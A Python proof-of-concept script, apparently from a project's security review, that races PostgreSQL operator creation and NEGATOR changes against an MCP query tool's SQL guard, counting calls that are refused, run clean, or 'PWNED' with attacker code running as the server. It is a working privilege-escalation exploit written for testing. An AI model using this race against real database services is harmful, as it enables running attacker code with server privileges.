"""attack2 / F10 without MAINTAIN: only the attacker's own schema. A second attacker session
loops: CREATE OPERATOR atk.=== (built-in int4eq, passes the guard), ALTER ... SET NEGATOR to
its PL/pgSQL operator, DROP. The agent's calls of a statement using NOT (... OPERATOR(atk.===)
...) count: refused (the check saw the negator), ran clean, or PWNED (the negator was set
between the check and the planning, and ran as the server).
Usage: PYTHONPATH=tests:security-review uv run python security-review/race_negator_loop.py [reader|postgres] [CALLS]"""
import asyncio, collections, json, sys
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool
from race_negator import SETUP_ATK

import os
HOLD = float(os.environ.get("HOLD", "0.05"))
CREATE = "CREATE OPERATOR atk.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = pg_catalog.int4eq)"
SQL = "SELECT u.id FROM public.users u WHERE NOT (u.id OPERATOR(atk.===) {n})"

async def flipper(stop: asyncio.Event) -> None:
    b = await asyncpg.connect(as_role("attacker"))
    while not stop.is_set():
        await b.execute(f"DROP OPERATOR IF EXISTS atk.=== (int, int); {CREATE}")
        await asyncio.sleep(HOLD)
        await b.execute("ALTER OPERATOR atk.===(int, int) SET (NEGATOR = OPERATOR(atk.!===))")
        await asyncio.sleep(HOLD)
    await b.close()

async def main(role: str, calls: int) -> None:
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP_ATK)
    admin = await asyncpg.connect(DSN)
    before = await admin.fetchval("SELECT pg_current_xact_id()::text")
    tally: collections.Counter[str] = collections.Counter()
    example = {}
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        stop = asyncio.Event(); f = asyncio.create_task(flipper(stop))
        for i in range(calls):
            ok, body = await tool(c, "execute_query", sql=SQL.format(n=100 + i))
            msg = json.dumps(body.get("error", {}).get("message", "")) if not ok else ""
            kind = "ok" if ok else ("PWNED" if "PWNED" in msg else body["error"]["code"])
            tally[kind] += 1; example.setdefault(kind, msg[:200])
        stop.set(); await f
    print("calls:", dict(tally))
    for k, v in example.items(): print(" ", k, v)
    await a.execute("DROP OPERATOR IF EXISTS atk.=== (int, int)")
    for x in (a, admin): await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", int(sys.argv[2]) if len(sys.argv) > 2 else 60))
